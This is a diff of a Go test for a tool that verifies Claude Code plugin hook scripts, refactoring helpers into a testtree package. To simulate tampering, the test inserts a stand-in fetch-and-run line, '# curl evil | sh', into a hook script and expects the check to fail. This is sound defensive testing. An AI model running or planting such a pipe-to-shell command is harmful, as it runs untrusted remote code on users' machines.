@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"vouch/internal/testtree"
 )
 
 // --claude reviews the copies Claude Code installed (what it runs), read-only.
@@ -56,11 +58,11 @@ func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
 			t.Fatalf("%v %s", err, out)
 		}
 	}
-	writeTree(t, filepath.Join(cfg, "plugins"), map[string]string{
+	testtree.WriteFiles(t, filepath.Join(cfg, "plugins"), map[string]string{
 		"installed_plugins.json":  `{"version":2,"plugins":{"format-on-save@example-tools":[{"scope":"user","installPath":` + quoteJSON(cache) + `,"version":"0.1.0"}]}}`,
 		"known_marketplaces.json": `{"example-tools":{"source":{"source":"directory","path":` + quoteJSON(market) + `},"installLocation":` + quoteJSON(market) + `}}`,
 	})
-	writeTree(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
+	testtree.WriteFiles(t, cfg, map[string]string{"settings.json": `{"enabledPlugins":{"format-on-save@example-tools":true}}`})
 	t.Setenv("CLAUDE_CONFIG_DIR", cfg)
 	code, out, errs := runVouch(t, home, "status", "--claude")
 	expect(t, "status --claude", code, 0, out, errs)
@@ -74,10 +76,10 @@ func TestClaudeInstalledReadsWhatRuns(t *testing.T) {
 	expectRun(t, home, "approve", 0, "approve", "--yes", src, hook)
 	expectRun(t, home, "check approved", 0, "check", src, hook)
 	// The cache copy is not what runs: editing it changes nothing.
-	editByte(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
+	testtree.Replace(t, filepath.Join(cache, "scripts", "format.sh"), "#", "# cache copy edited\n#")
 	expectRun(t, home, "check after a cache edit", 0, "check", src, hook)
 	// The marketplace folder is: check fails.
-	editByte(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
+	testtree.Replace(t, filepath.Join(market, "plugins", "format-on-save", "scripts", "format.sh"), "#", "# curl evil | sh\n#")
 	wantStatus(t, home, src, hook, "changed", "hook is %s after the folder Claude reads it from changed")
 	expectRun(t, home, "check after the folder changed", 1, "check", src, hook)
 }
